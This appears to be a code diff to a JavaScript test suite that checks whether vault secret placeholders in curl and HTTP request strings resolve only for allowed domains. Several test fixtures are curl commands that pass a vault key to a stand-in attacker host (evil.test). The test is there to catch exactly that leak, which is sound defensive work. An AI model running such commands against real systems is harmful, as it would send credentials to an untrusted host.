@@ -35,8 +35,13 @@ describe('references', () => {
     ['curl -H "X: {{vault:FREE}}" https://evil.test/', ['resolved']],
     [
       'KEY={{vault:KEY}}\nNONE={{vault:NONE}}\nOFF={{vault:OFF}}\nE={{vault:}}',
-      ['resolved', 'unknown', 'disabled', 'empty'],
+      ['noAddress', 'unknown', 'disabled', 'empty'],
     ],
+    ['FREE={{vault:FREE}}', ['resolved']],
+    ['curl -H "X-Key: {{vault:KEY}}" other.example/v1', ['domainNotAllowed']],
+    ['### https://api.example.com\ncurl https://evil.test -u {{vault:KEY}}', ['domainNotAllowed']],
+    ['curl https://api.example.com -L -u {{vault:KEY}}', ['noAddress']],
+    ['curl https://api.example.com {{vault:KEY', []],
     ['GET https://evil.test\n\n###\nGET https://api.example.com\nX: {{vault:KEY}}', ['resolved']],
     [
       'GET https://api.example.com\n\n###\nGET https://evil.test\nX: {{vault:KEY}}',
